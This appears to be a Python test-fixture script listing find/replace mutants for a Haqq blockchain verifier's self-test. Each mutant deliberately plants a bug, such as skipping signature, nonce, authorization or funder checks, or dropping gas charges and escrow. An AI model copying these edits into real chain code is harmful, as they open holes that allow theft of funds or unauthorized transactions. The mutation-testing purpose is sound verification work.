  "\tfor _, coin := range leftovers {\n\t\tif err := k.setBalance(ctx, owner, coin); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}\n\n\t// Add coins to new owner\n\tif err := k.addCoinsToAccount(ctx, newOwner, amount); err != nil {\n\t\treturn nil, err\n\t}",
  "\t// Add coins to new owner\n\tif err := k.addCoinsToAccount(ctx, newOwner, amount); err != nil {\n\t\treturn nil, err\n\t}\n\n\tfor _, coin := range leftovers {\n\t\tif err := k.setBalance(ctx, owner, coin); err != nil {\n\t\t\treturn nil, err\n\t\t}\n\t}", "writeback")
m("c12-transfer-touches-total", "C12", "x/ucdao/keeper/keeper.go",
  "\t// Update holders index\n\tk.setHoldersIndex(ctx, newOwner)\n\tk.setHoldersIndex(ctx, owner)",
  "\tfor _, c := range amount {\n\t\tk.setTotalBalanceOfCoin(ctx, k.GetTotalBalanceOf(ctx, c.Denom).Add(c))\n\t}\n\t// Update holders index\n\tk.setHoldersIndex(ctx, newOwner)\n\tk.setHoldersIndex(ctx, owner)", "setTotalBalanceOfCoin")
m("c12-msgserver-writes-ledger", "C12", "x/ucdao/keeper/msg_server.go",
  "\tif err := k.Keeper.Fund(ctx, msg.Amount, addr); err != nil {\n\t\treturn nil, err\n\t}",
  "\tif err := k.Keeper.Fund(ctx, msg.Amount, addr); err != nil {\n\t\treturn nil, err\n\t}\n\tif bk, ok := k.Keeper.(BaseKeeper); ok {\n\t\tbk.setHoldersIndex(ctx, addr)\n\t}", "setHoldersIndex")
m("c12-fund-skips-total", "C12", "x/ucdao/keeper/keeper.go",
  "\t\tbal := k.GetTotalBalanceOf(ctx, coin.Denom)\n\t\tbal = bal.Add(coin)\n\t\tk.setTotalBalanceOfCoin(ctx, bal)",
  "\t\tif IsLiquidToken(coin.Denom) {\n\t\t\tcontinue\n\t\t}\n\t\tbal := k.GetTotalBalanceOf(ctx, coin.Denom)\n\t\tbal = bal.Add(coin)\n\t\tk.setTotalBalanceOfCoin(ctx, bal)", "total-follows")
m("c12-fund-credit-before-escrow", "C12", "x/ucdao/keeper/keeper.go",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\n\tfor _, coin := range amount {",
  "\tfor _, coin := range amount {", "escrow", "drops the escrow entirely")
m("c12-no-validate", "C12", "x/ucdao/keeper/msg_server.go",
  "func (k msgServer) TransferOwnershipWithAmount(goCtx context.Context, msg *types.MsgTransferOwnershipWithAmount) (*types.MsgTransferOwnershipWithAmountResponse, error) {\n\tctx := sdk.UnwrapSDKContext(goCtx)\n\n\tif err := msg.ValidateBasic(); err != nil {\n\t\treturn nil, err\n\t}\n",
  "func (k msgServer) TransferOwnershipWithAmount(goCtx context.Context, msg *types.MsgTransferOwnershipWithAmount) (*types.MsgTransferOwnershipWithAmountResponse, error) {\n\tctx := sdk.UnwrapSDKContext(goCtx)\n", "validate-first")

# ---------------- C14 ----------------
m("c14-gov-plain-bank", "C14", "app/app.go",
  "\t\tappCodec, keys[govtypes.StoreKey], app.AccountKeeper, &haqqBankKeeper,\n\t\tstakingKeeper, app.MsgServiceRouter(), govConfig, authAddr,",
  "\t\tappCodec, keys[govtypes.StoreKey], app.AccountKeeper, app.BankKeeper,\n\t\tstakingKeeper, app.MsgServiceRouter(), govConfig, authAddr,", "gov/keeper.NewKeeper/bank")
m("c14-drop-feepool-write", "C14", "x/bank/keeper/keeper.go",
  "\t\tb := k.cdc.MustMarshal(&feePool)\n\t\tkvstore.Set(distrtypes.FeePoolKey, b)\n", "\t\t_ = k.cdc.MustMarshal(&feePool)\n", "feepool")
m("c14-evm-redirected", "C14", "x/bank/keeper/keeper.go",
  "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName:", "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName, \"evm\":", "case-set")
m("c14-notbonded-burns", "C14", "x/bank/keeper/keeper.go",
  "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName, stakingtypes.NotBondedPoolName:", "\tcase govtypes.ModuleName, stakingtypes.BondedPoolName:", "case-set")
m("c14-wrong-distr-key", "C14", "app/app.go",
  "appCodec, keys[banktypes.StoreKey], keys[distrtypes.StoreKey], app.AccountKeeper, app.DistrKeeper, app.BlockedAddrs(), authAddr,",
  "appCodec, keys[banktypes.StoreKey], keys[banktypes.StoreKey], app.AccountKeeper, app.DistrKeeper, app.BlockedAddrs(), authAddr,", "distrStoreKey")

# ---------------- C16 ----------------
m("c16-delegate-not-tx", "C16", "precompiles/staking/staking.go",
  "\tcase CreateValidatorMethod,\n\t\tDelegateMethod,\n\t\tUndelegateMethod,", "\tcase CreateValidatorMethod,\n\t\tUndelegateMethod,", "classification/delegate")
m("c16-mutate-msg", "C16", "precompiles/staking/tx.go",
  "\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tif _, err = msgSrv.Delegate(sdk.WrapSDKContext(ctx), msg); err != nil {",
  "\tmsg.Amount.Amount = msg.Amount.Amount.AddRaw(1)\n\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tif _, err = msgSrv.Delegate(sdk.WrapSDKContext(ctx), msg); err != nil {", "message-unmodified")
m("c16-skip-usegas", "C16", "precompiles/ics20/ics20.go",
  "\tif !contract.UseGas(cost) {\n\t\treturn nil, vm.ErrOutOfGas\n\t}", "\tif cost > 1<<40 && !contract.UseGas(cost) {\n\t\treturn nil, vm.ErrOutOfGas\n\t}", "gas-charged")
m("c16-abi-case-missing", "C16", "precompiles/distribution/distribution.go",
  "\tcase DelegatorWithdrawAddressMethod:\n\t\tbz, err = p.DelegatorWithdrawAddress(ctx, contract, method, args)\n", "", "abi=cases")
m("c16-sdk-msgserver-in-precompile", "C16", "precompiles/staking/tx.go",
  "\tmsgSrv := stakingkeeper.NewMsgServerImpl(&p.stakingKeeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)",
  "\tmsgSrv := sdkstakingkeeper.NewMsgServerImpl(p.stakingKeeper.Keeper)\n\tres, err := msgSrv.Undelegate(sdk.WrapSDKContext(ctx), msg)", "msg-server", "SDK msg server (no vesting checks) instead of the Haqq wrapper",
  extra=[("import (\n", "import (\n\tsdkstakingkeeper \"github.com/cosmos/cosmos-sdk/x/staking/keeper\"\n")])
m("c16-redelegate-to-delegate", "C16", "precompiles/distribution/tx.go",
  "res, err := msgSrv.WithdrawDelegatorReward(sdk.WrapSDKContext(ctx), msg)", "res, err := msgSrv.WithdrawDelegatorReward(sdk.WrapSDKContext(ctx), msg)\n\tif err == nil {\n\t\t_, err = msgSrv.FundCommunityPool(sdk.WrapSDKContext(ctx), nil)\n\t}", "native-dispatch")

# ---------------- C08 ----------------
m("c08-locked-uncapped-delegated", "C08", "x/vesting/types/clawback_vesting_account.go",
  "lockedUpVestedDelegatedCoins := va.DelegatedFree.Add(va.DelegatedVesting...).Min(va.GetLockedUpVestedCoins(blockTime))",
  "lockedUpVestedDelegatedCoins := va.DelegatedFree.Add(va.DelegatedVesting...)", "LockedCoins#composition",
  "every delegated coin reduces the locked amount, not only min(delegated, locked-up vested): delegating frees unvested coins")
m("c08-module-registers-sdk-server", "C08", "x/staking/module.go",
  "types.RegisterMsgServer(cfg.MsgServer(), keeper.NewMsgServerImpl(am.keeper))",
  "types.RegisterMsgServer(cfg.MsgServer(), stakingkeeper.NewMsgServerImpl(am.keeper.Keeper))", "RegisterServices#",
  "module installs the unwrapped SDK staking message server")
m("c08-convert-stakes-whole-grant", "C08", "x/vesting/keeper/msg_server.go",
  "found, amountToDelegate := vestedCoins.Find(bondDenom)", "found, amountToDelegate := msg.GetVestingPeriods().TotalAmount().Find(bondDenom)",
  "delegateVestedCoins#sdk-Keeper.Delegate", "ConvertIntoVestingAccount --stake bonds the whole grant, vested or not")
m("c08-createvalidator-checks-minself", "C08", "x/staking/keeper/msg_server.go",
  "k.validateDelegationAmountNotUnvested(goCtx, msg.DelegatorAddress, msg.Value.Amount)",
  "k.validateDelegationAmountNotUnvested(goCtx, msg.DelegatorAddress, msg.MinSelfDelegation)", "CreateValidator#check-before-dispatch",
  "unvested check runs on the min self delegation, not on the bonded value")
m("c08-delegatable-ignores-unvested", "C08", "x/staking/keeper/msg_server.go",
  "\tdelegatableAmt := balance.Amount.Sub(unvestedBondableAmt)\n", "\tdelegatableAmt := balance.Amount\n\t_ = unvestedBondableAmt\n",
  "validateDelegationAmountNotUnvested#rejects-unvested", "delegatable = whole balance")
m("c08-spendable-ignores-lockup", "C08", "app/ante/evm/vesting.go",
  "lockedBalances := account.LockedCoins(ctx.BlockTime())", "lockedBalances := account.GetVestingCoins(ctx.BlockTime())",
  "updateAccountExpenses#spendable", "eth ante: only unvested coins count as locked, vested-but-locked-up coins become spendable")
m("c08-eth-vesting-per-message", "C08", "app/ante/evm/vesting.go",
  "\t\ttotal := expenses.total\n", "\t\ttotal := msgValue\n",
  "AnteHandle#spend-within-spendable", "each message is compared alone with the spendable balance; a multi-message tx overspends")
m("c08-addgrant-endtime-lockup-only", "C08", "x/vesting/keeper/msg_server.go",
  "\tva.EndTime = types.Max64(newLockupEnd, newVestingEnd)\n", "\tva.EndTime = newLockupEnd\n\t_ = newVestingEnd\n",
  "addGrant#EndTime", "merged account ends with its lockup; ReadSchedule releases the whole vesting total from then on")

# ---------------- C09 ----------------
m("c09-clawback-dest-is-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\tif va.FunderAddress != funder.String() {", "\tif va.FunderAddress != funder.String() && va.FunderAddress != dest.String() {",
  "Clawback#only-funder", "anyone may trigger the clawback as long as the coins go to the funder")
m("c09-updatefunder-compares-new", "C09", "x/vesting/keeper/msg_server.go",
  "\tif va.FunderAddress != msg.FunderAddress {", "\tif va.FunderAddress == msg.NewFunderAddress {",
  "UpdateVestingFunder#only-funder", "authority check replaced by a no-op-update check")
m("c09-merge-by-owner", "C09", "x/vesting/keeper/msg_server.go",
  "\t\tcase msg.FromAddress != vestingAcc.FunderAddress:", "\t\tcase msg.FromAddress != vestingAcc.FunderAddress && msg.FromAddress != msg.ToAddress:",
  "CreateClawbackVestingAccount#merge-only-by-funder", "the vesting account itself may merge grants")
m("c09-clawback-moves-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\t// set the account with the updated values of the vesting schedule\n\tk.accountKeeper.SetAccount(ctx, &updatedAcc)",
  "\tupdatedAcc.FunderAddress = dest.String()\n\tk.accountKeeper.SetAccount(ctx, &updatedAcc)",
  "writes-FunderAddress", "clawback hands the funder role to the destination")
m("c09-clawback-stores-stale-account", "C09", "x/vesting/keeper/msg_server.go",
  "\tk.accountKeeper.SetAccount(ctx, &updatedAcc)", "\tk.accountKeeper.SetAccount(ctx, &va)",
  "transferClawback#stores-updated-account", "coins leave but the account keeps its old schedule and OriginalVesting")
m("c09-clawback-returns-locked", "C09", "x/vesting/types/clawback_vesting_account.go",
  "totalUnvested := va.GetVestingCoins(time.Unix(clawbackTime, 0))", "totalUnvested := va.LockedCoins(time.Unix(clawbackTime, 0))",
  "ComputeClawback#returns-unvested", "claws back every locked coin, vested-but-locked ones included")
m("c09-blocked-check-on-funder", "C09", "x/vesting/keeper/msg_server.go",
  "\tif bk.BlockedAddr(dest) {\n\t\treturn nil, errorsmod.Wrapf(errortypes.ErrUnauthorized,\n\t\t\t\"%s is not allowed to receive funds\", msg.DestAddress,",
  "\tif bk.BlockedAddr(funder) {\n\t\treturn nil, errorsmod.Wrapf(errortypes.ErrUnauthorized,\n\t\t\t\"%s is not allowed to receive funds\", msg.DestAddress,",
  "Clawback#dest-not-blocked", "blocked-address check applied to the funder instead of the destination")
m("c09-default-dest-is-account", "C09", "x/vesting/keeper/msg_server.go",
  "\tif msg.DestAddress == \"\" {\n\t\tdest = funder\n\t}", "\tif msg.DestAddress == \"\" {\n\t\tdest = addr\n\t}",
  "Clawback#dest-source", "without a destination the unvested coins go back to the vesting account itself")
m("c09-addgrant-keeps-lockup", "C09", "x/vesting/keeper/msg_server.go",
  "\tva.LockupPeriods = newLockupPeriods\n", "\tif len(va.LockupPeriods) == 0 {\n\t\tva.LockupPeriods = newLockupPeriods\n\t}\n",
  "addGrant#sets-LockupPeriods", "merge keeps the old lockup list although start time moved")
m("c09-pastcount-boundary", "C09", "x/vesting/types/schedule.go",
  "\t\tif readTime < elapsedTime+period.Length {\n\t\t\t// we're reading before the next event\n\t\t\tbreak\n\t\t}\n\t\tpassedPeriods++",
  "\t\tif readTime <= elapsedTime+period.Length {\n\t\t\t// we're reading before the next event\n\t\t\tbreak\n\t\t}\n\t\tpassedPeriods++",
  "ReadPastPeriodCount#period-end-vs-readTime", "a period ending exactly at the clawback time is counted vested by ReadSchedule but cut from the period list")
m("c09-readschedule-start-inclusive", "C09", "x/vesting/types/schedule.go",
  "\tif readTime <= startTime {\n\t\treturn sdk.NewCoins()", "\tif readTime < startTime {\n\t\treturn sdk.NewCoins()",
  "ReadSchedule#limits", "a zero-length first period is released at the start instant")

json.dump(M, open('/verif/mutants.json', 'w'), indent=1)
print(len(M), "mutants written")
