#!/usr/bin/env python3
"""Catalogue of single-edit mutants for the checker's self-test (DESIGN §2.4).
Each mutant: behaviour-breaking, still compiles; the owning rule must report a NEW violated
obligation whose key contains `expect`. Written to /verif/mutants.json."""
import json

M = []
def m(id, prop, file, find, replace, expect, note="", extra=None, count=None):
    d = dict(id=id, property=prop, file=file, find=find, replace=replace, expect=expect, note=note)
    if count:
        d["count"] = count
    if extra:
        d["extra"] = [dict(find=f, replace=r) for f, r in extra]
    M.append(d)

# ---------------- C01 ----------------
m("c01-unsorted-dirties", "C01", "x/evm/statedb/journal.go",
  "\tsort.Slice(keys, func(i, j int) bool {\n\t\treturn bytes.Compare(keys[i].Bytes(), keys[j].Bytes()) < 0\n\t})\n\treturn keys",
  "\t_ = sort.Slice\n\t_ = bytes.Compare\n\treturn keys", "sortedDirties", "dirty accounts committed in map order")
m("c01-wallclock-coinomics", "C01", "x/coinomics/keeper/inflation.go",
  "currentYear := ctx.BlockTime().Year()", "currentYear := time.Now().Year()", "time.Now", "wall clock instead of block time",
  extra=[("import (\n", "import (\n\t\"time\"\n")])
m("c01-go-in-endblocker", "C01", "x/coinomics/keeper/abci.go",
  "\tif err := k.MintAndAllocate(ctx); err != nil {\n\t\tctx.Logger().Error(\"Failed MintAndAllocateInflation: \", err.Error())\n\t}",
  "\tgo func() {\n\t\tif err := k.MintAndAllocate(ctx); err != nil {\n\t\t\tctx.Logger().Error(\"Failed MintAndAllocateInflation: \", err.Error())\n\t\t}\n\t}()", "go-statement")
m("c01-global-write", "C01", "x/ucdao/keeper/keeper.go",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\n\tfor _, coin := range amount {",
  "\tif err := k.bk.SendCoinsFromAccountToModule(ctx, sender, types.ModuleName, amount); err != nil {\n\t\treturn err\n\t}\n\ttypes.ParamsKey = append(types.ParamsKey, 0)\n\n\tfor _, coin := range amount {", "write-")
m("c01-maxgaswanted-unguarded", "C01", "app/ante/evm/eth.go",
  "if ctx.IsCheckTx() && egcd.maxGasWanted != 0 {", "if egcd.maxGasWanted != 0 {", "maxGasWanted")
m("c01-tps-in-response", "C01", "app/app.go",
  "\t\t\tapp.tpsCounter.incrementSuccess()\n", "\t\t\tapp.tpsCounter.incrementSuccess()\n\t\t\tres.GasUsed += int64(app.tpsCounter.nSuccessful)\n", "tpsCounter", "process-local counter leaks into the DeliverTx response")

# ---------------- C02 ----------------
m("c01-error-text-prints-the-contract", "C01", "precompiles/common/precompile.go",
  "\t\t\t\t*err = fmt.Errorf(\"precompile panicked: %v\", r)\n", "\t\t\t\t*err = fmt.Errorf(\"precompile panicked: %v (call: %+v)\", r, contract)\n", "formats-a-struct-with-pointers",
  "the error text of a failed precompile call prints the *vm.Contract, whose nested pointers print as heap addresses")

m("c02-no-flush-distribution", "C02", "precompiles/distribution/distribution.go",
  "\tif err := stateDB.Flush(); err != nil {\n\t\treturn nil, err\n\t}\n", "\t_ = stateDB\n", "flush-before-dispatch")
m("c02-erc20-mints-evm", "C02", "x/erc20/keeper/msg_server.go",
  "err = k.bankKeeper.BurnCoins(ctx, types.ModuleName, coins)", "err = k.bankKeeper.BurnCoins(ctx, \"evm\", coins)", "BurnCoins/evm")
m("c02-mint-without-send", "C02", "x/evm/keeper/statedb.go",
  "\t\tif err := k.bankKeeper.SendCoinsFromModuleToAccount(ctx, types.ModuleName, cosmosAddr, coins); err != nil {\n\t\t\treturn err\n\t\t}\n", "", "paired-send")
m("c02-unblock-precompile", "C02", "precompiles/common/types.go",
  "\t\t\"haqq1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqzqy629ddg\", // Bank precompile 0x0000000000000000000000000000000000000804\n", "", "DefaultPrecompilesBech32")
m("c02-setaccount-skips-balance", "C02", "x/evm/keeper/statedb.go",
  "\tif err := k.SetBalance(ctx, addr, account.Balance); err != nil {\n\t\treturn err\n\t}\n",
  "\tif account.Balance.Sign() > 0 {\n\t\tif err := k.SetBalance(ctx, addr, account.Balance); err != nil {\n\t\t\treturn err\n\t\t}\n\t}\n", "always-sets-balance")

# ---------------- C03 ----------------
m("c03-seq-before-sig", "C03", "app/ante/handler_options.go",
  "\t\tevmante.NewEthSigVerificationDecorator(options.EvmKeeper),\n\t\tevmante.NewEthAccountVerificationDecorator(options.AccountKeeper, options.EvmKeeper),",
  "\t\tevmante.NewEthIncrementSenderSequenceDecorator(options.AccountKeeper),\n\t\tevmante.NewEthSigVerificationDecorator(options.EvmKeeper),\n\t\tevmante.NewEthAccountVerificationDecorator(options.AccountKeeper, options.EvmKeeper),", "EthIncrementSenderSequenceDecorator")
m("c03-drop-nonce-check", "C03", "app/ante/evm/eth.go",
  "\t\tif txData.GetNonce() != nonce {", "\t\tif txData.GetNonce() < nonce {", "nonce-equals-sequence")
m("c03-eip712-skip-secp", "C03", "app/ante/cosmos/eip712.go",
  "\t\tif !secp256k1.VerifySignature(pubKey.Bytes(), sigHash, feePayerSig[:len(feePayerSig)-1]) {",
  "\t\tif len(sigHash) == 0 && !secp256k1.VerifySignature(pubKey.Bytes(), sigHash, feePayerSig[:len(feePayerSig)-1]) {", "secp256k1-verify")
m("c03-eip712-skip-chainid", "C03", "app/ante/cosmos/eip712.go",
  "\t\tif extOpt.TypedDataChainID != signerChainID.Uint64() {", "\t\tif extOpt.TypedDataChainID == 0 && signerChainID.Uint64() != 0 {", "chain-id")
m("c03-latest-signer", "C03", "app/ante/evm/sigverify.go",
  "signer := ethtypes.MakeSigner(ethCfg, blockNum)", "signer := ethtypes.NewLondonSigner(big.NewInt(0))\n\t_, _ = ethCfg, blockNum", "sender-recovered")
m("c03-allow-unprotected", "C03", "app/ante/evm/sigverify.go",
  "if !allowUnprotectedTxs && !ethTx.Protected() {", "if !allowUnprotectedTxs && !ethTx.Protected() && ethTx.Type() != 0 {", "protected")
m("c03-eip712-skip-sequence", "C03", "app/ante/cosmos/eip712.go",
  "\tif sig.Sequence != acc.GetSequence() {", "\tif sig.Sequence > acc.GetSequence() {", "sequence-matches")
m("c03-from-trusted", "C03", "app/ante/evm/setup_ctx.go",
  "\t\tif msgEthTx.From != \"\" {\n\t\t\treturn ctx, errorsmod.Wrapf(errortypes.ErrInvalidRequest, \"invalid From %s, expect empty string\", msgEthTx.From)\n\t\t}\n", "", "from-arrives-empty")

# ---------------- C04 ----------------
m("c04-undelegate-no-origin-check", "C04", "precompiles/staking/tx.go",
  "\tif isCallerDelegator {\n\t\tdelegatorHexAddr = origin\n\t} else if origin != delegatorHexAddr {\n\t\treturn nil, fmt.Errorf(ErrDifferentOriginFromDelegator, origin.String(), delegatorHexAddr.String())\n\t}\n\n\t// no need to have authorization when the contract caller is the same as origin (owner of funds)\n\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, UndelegateMsg)",
  "\tif isCallerDelegator {\n\t\tdelegatorHexAddr = origin\n\t}\n\n\t// no need to have authorization when the contract caller is the same as origin (owner of funds)\n\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, UndelegateMsg)",
  "Undelegate#identity-guard")
m("c04-redelegate-no-update", "C04", "precompiles/staking/tx.go",
  "\t\tif err := p.UpdateStakingAuthorization(ctx, contract.CallerAddress, delegatorHexAddr, stakeAuthz, expiration, RedelegateMsg, msg); err != nil {\n\t\t\treturn nil, err\n\t\t}",
  "\t\t_, _ = stakeAuthz, expiration", "Redelegate#grant-update-after-spend")
m("c04-approve-granter-from-args", "C04", "precompiles/staking/approve.go",
  "\t\t\tif err = p.grantOrDeleteStakingAuthz(ctx, grantee, origin, coin, authzType); err != nil {",
  "\t\t\tif err = p.grantOrDeleteStakingAuthz(ctx, origin, grantee, coin, authzType); err != nil {", "granter")
m("c04-ics20-grant-for-sender", "C04", "precompiles/ics20/types.go",
  "\tif contract.CallerAddress == origin {\n\t\treturn nil, nil, nil\n\t}\n\n\tauth, expiration, err := authorization.CheckAuthzExists",
  "\tif contract.CallerAddress == origin || len(msg.Memo) > 0 {\n\t\treturn nil, nil, nil\n\t}\n\n\tauth, expiration, err := authorization.CheckAuthzExists", "Transfer#grant-before-spend")
m("c04-delegate-skip-check-small", "C04", "precompiles/staking/tx.go",
  "\tif !isCallerOrigin {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, DelegateMsg)",
  "\tif !isCallerOrigin && msg.Amount.Amount.IsPositive() {\n\t\t// Check if the authorization grant exists for the caller and the origin\n\t\tstakeAuthz, expiration, err = authorization.CheckAuthzAndAllowanceForGranter(ctx, p.AuthzKeeper, contract.CallerAddress, delegatorHexAddr, &msg.Amount, DelegateMsg)",
  "Delegate#grant-before-spend")
m("c04-decoder-returns-other-address", "C04", "precompiles/distribution/types.go",
  "\treturn msg, delegatorAddress, nil\n}\n\n// NewMsgWithdrawValidatorCommission", "\treturn msg, common.HexToAddress(validatorAddress), nil\n}\n\n// NewMsgWithdrawValidatorCommission", "message-names-returned-address",
  "decoder of withdrawDelegatorRewards returns an address unrelated to msg.DelegatorAddress")

m("c04-module-origin-allowed", "C04", "precompiles/common/precompile.go",
  "\tif isTransaction(method.Name) && evm.Origin == erc20types.ModuleAddress {", "\tif isTransaction(method.Name) && evm.Origin == erc20types.ModuleAddress && readOnly {", "origin-is-not-the-erc20-module",
  "the refusal of the module account as origin applies to read-only frames only")
# ---------------- C05 ----------------
m("c05-commit-always", "C05", "x/evm/keeper/state_transition.go",
  "\t\t} else if commit != nil {", "\t\t}\n\t\tif commit != nil {", "commit-only-if-hooks-ok")
m("c05-message-on-ctx", "C05", "x/evm/keeper/state_transition.go",
  "res, err := k.ApplyMessageWithConfig(tmpCtx, msg, nil, true, cfg, txConfig)", "res, err := k.ApplyMessageWithConfig(ctx, msg, nil, true, cfg, txConfig)", "message-on-cache-ctx")
m("c05-no-hooks", "C05", "app/app.go",
  "\tapp.EvmKeeper = app.EvmKeeper.SetHooks(\n\t\tevmkeeper.NewMultiEvmHooks(\n\t\t\tapp.Erc20Keeper.Hooks(),\n\t\t),\n\t)", "\tapp.EvmKeeper = app.EvmKeeper.SetHooks(\n\t\tevmkeeper.NewMultiEvmHooks(),\n\t)", "evm-hooks")
m("c05-setnonce-unjournaled", "C05", "x/evm/statedb/state_object.go",
  "func (s *stateObject) SetNonce(nonce uint64) {\n\ts.db.journal.append(nonceChange{\n\t\taccount: &s.address,\n\t\tprev:    s.account.Nonce,\n\t})\n\ts.setNonce(nonce)",
  "func (s *stateObject) SetNonce(nonce uint64) {\n\tif nonce > s.account.Nonce+1 {\n\t\ts.db.journal.append(nonceChange{\n\t\t\taccount: &s.address,\n\t\t\tprev:    s.account.Nonce,\n\t\t})\n\t}\n\ts.setNonce(nonce)", "setNonce")
m("c05-revert-ignores-prev", "C05", "x/evm/statedb/journal.go",
  "func (ch refundChange) Revert(s *StateDB) {\n\ts.refund = ch.prev\n}", "func (ch refundChange) Revert(s *StateDB) {\n\ts.refund = 0\n}", "refundChange")
m("c05-commit-on-failed", "C05", "x/evm/keeper/state_transition.go",
  "\tif !res.Failed() {\n\t\treceipt.Status = ethtypes.ReceiptStatusSuccessful", "\tif !res.Failed() || len(res.Ret) > 0 {\n\t\treceipt.Status = ethtypes.ReceiptStatusSuccessful", "commit-only-if-not-failed")

# ---------------- C06 ----------------
m("c06-default-falls-through", "C06", "app/ante/ante.go",
  "\t\t\t\tdefault:\n\t\t\t\t\treturn ctx, errorsmod.Wrapf(\n\t\t\t\t\t\terrortypes.ErrUnknownExtensionOptions,\n\t\t\t\t\t\t\"rejecting tx with unsupported extension option: %s\", typeURL,\n\t\t\t\t\t)",
  "\t\t\t\tdefault:\n\t\t\t\t\t_ = errortypes.ErrUnknownExtensionOptions\n\t\t\t\t\tanteHandler = newCosmosAnteHandler(options)", "unknown-option-rejected")
m("c06-exec-grantable", "C06", "app/ante/handler_options.go",
  "\t\t\tsdk.MsgTypeURL(&authz.MsgExec{}),\n\t\t),\n\t\tante.NewSetUpContextDecorator(),\n\t\tante.NewExtensionOptionsDecorator",
  "\t\t),\n\t\tante.NewSetUpContextDecorator(),\n\t\tante.NewExtensionOptionsDecorator", "exec-is-not-grantable",
  "the Cosmos route's limiter no longer bars grants of MsgExec (the EIP-712 one still does)")
m("c06-router-to-a-new-dispatcher", "C06", "app/app.go",
  "\tapp.AuthzKeeper = authzkeeper.NewKeeper(keys[authzkeeper.StoreKey], appCodec, app.MsgServiceRouter(), app.AccountKeeper)\n",
  "\tapp.AuthzKeeper = authzkeeper.NewKeeper(keys[authzkeeper.StoreKey], appCodec, app.MsgServiceRouter(), app.AccountKeeper)\n\tverifKeepRouter(app.MsgServiceRouter())\n",
  "router-receiver", "an untabled function receives the message service router",
  extra=[("func (app *Haqq) setAnteHandler(", "func verifKeepRouter(_ *baseapp.MsgServiceRouter) {}\n\nfunc (app *Haqq) setAnteHandler(")])
m("c06-grant-grantable", "C06", "app/ante/handler_options.go",
  "\t\t\tsdk.MsgTypeURL(&authz.MsgGrant{}),\n\t\t),\n\t\tante.NewSetUpContextDecorator(),\n\t\tante.NewValidateBasicDecorator(),\n\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tcosmosante.NewMinGasPriceDecorator",
  "\t\t),\n\t\tante.NewSetUpContextDecorator(),\n\t\tante.NewValidateBasicDecorator(),\n\t\tante.NewTxTimeoutHeightDecorator(),\n\t\tcosmosante.NewMinGasPriceDecorator", "grant-is-not-grantable",
  "the EIP-712 route's limiter no longer bars grants of MsgGrant")
m("c06-nested-grant-by-authorization-only", "C06", "app/ante/cosmos/authz.go",
  "\t\t\tif grantURL := sdk.MsgTypeURL(msg); isAuthzInnerMsg && ald.isDisabledMsg(grantURL) {\n\t\t\t\treturn fmt.Errorf(\"found disabled msg type: %s\", grantURL)\n\t\t\t}\n", "", "nested-grant-looked-up-as-a-message",
  "the MsgGrant arm looks only at the authorization's type again")
m("c06-eip712-no-reject", "C06", "app/ante/handler_options.go",
  "func newLegacyCosmosAnteHandlerEip712(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(\n\t\tcosmosante.RejectMessagesDecorator{}, // reject MsgEthereumTxs\n",
  "func newLegacyCosmosAnteHandlerEip712(options HandlerOptions) sdk.AnteHandler {\n\treturn sdk.ChainAnteDecorators(\n", "newLegacyCosmosAnteHandlerEip712#reject-first")
m("c06-gasconsume-no-assert", "C06", "app/ante/evm/eth.go",
  "\t\tmsgEthTx, ok := msg.(*evmtypes.MsgEthereumTx)\n\t\tif !ok {\n\t\t\treturn ctx, errorsmod.Wrapf(errortypes.ErrUnknownRequest, \"invalid message type %T, expected %T\", msg, (*evmtypes.MsgEthereumTx)(nil))\n\t\t}\n\t\tfrom := msgEthTx.GetFrom()",
  "\t\tmsgEthTx, ok := msg.(*evmtypes.MsgEthereumTx)\n\t\tif !ok {\n\t\t\tcontinue\n\t\t}\n\t\tfrom := msgEthTx.GetFrom()", "EthGasConsumeDecorator")
m("c06-no-msggrant-case", "C06", "app/ante/cosmos/authz.go",
  "\t\tcase *authz.MsgGrant:\n\t\t\tauthorization, err := msg.GetAuthorization()\n\t\t\tif err != nil {\n\t\t\t\treturn err\n\t\t\t}\n\n\t\t\turl := authorization.MsgTypeURL()\n\t\t\tif ald.isDisabledMsg(url) {\n\t\t\t\treturn fmt.Errorf(\"found disabled msg type: %s\", url)\n\t\t\t}\n", "", "MsgGrant")
m("c06-recursion-inner-false", "C06", "app/ante/cosmos/authz.go",
  "if err := ald.checkDisabledMsgs(innerMsgs, true, nestedLvl); err != nil {", "if err := ald.checkDisabledMsgs(innerMsgs, isAuthzInnerMsg, nestedLvl); err != nil {", "recursion")
m("c06-reject-only-first", "C06", "app/ante/cosmos/reject_msgs.go",
  "\tfor _, msg := range tx.GetMsgs() {\n\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok {", "\tfor i, msg := range tx.GetMsgs() {\n\t\tif _, ok := msg.(*evmtypes.MsgEthereumTx); ok && i == 0 {", "rejects")
m("c06-web3-routed-to-cosmos", "C06", "app/ante/ante.go",
